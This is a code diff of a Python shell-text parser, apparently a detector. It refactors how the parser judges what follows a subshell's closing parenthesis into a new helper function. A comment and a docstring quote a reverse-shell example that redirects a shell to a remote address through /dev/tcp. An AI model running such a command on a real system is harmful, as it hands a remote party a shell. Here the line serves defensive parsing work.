@@ -2427,9 +2427,16 @@ def _subshell_unclosable(text: str, at: int) -> bool:
     closed = line.find(")")
     if closed < 0 or "(" in line[:closed]:
         return False
-    after = line[closed + 1 : closed + 2]
-    if after.isdigit():  # a descriptor redirected: `(sh)0>$d/tcp/10.0.0.1/777`
-        return _REDIRECTED_DESCRIPTOR.match(line, closed + 1) is None
+    return _error_after_subshell(line, closed + 1)
+
+
+def _error_after_subshell(text: str, at: int) -> bool:
+    """Whether what `text` has at `at`, right after a subshell's `)`, is a shell's syntax
+    error: anything but what may follow one (`_AFTER_SUBSHELL`) or a descriptor redirected
+    (`(sh)0>$d/tcp/10.0.0.1/777`, `(a|id)2>/tmp/x`). The text's end is none."""
+    after = text[at : at + 1]
+    if after.isdigit():
+        return _REDIRECTED_DESCRIPTOR.match(text, at) is None
     return after != "" and after not in _AFTER_SUBSHELL
 
 
@@ -2455,12 +2462,11 @@ def _regex_group(text: str, at: int) -> bool:
     closer = ")" if text[opened] == "(" else "]]"
     closed = text.find(closer, at, at + 200)
     group = text[opened + len(closer) : closed]
-    after = text[closed + 1 : closed + 2]
     return (
         closed >= 0
         and closer[0] not in group
         and not any(char.isspace() for char in group)
-        and (glued or (after != "" and after not in _AFTER_SUBSHELL))
+        and (glued or _error_after_subshell(text, closed + 1))
     )
 
 
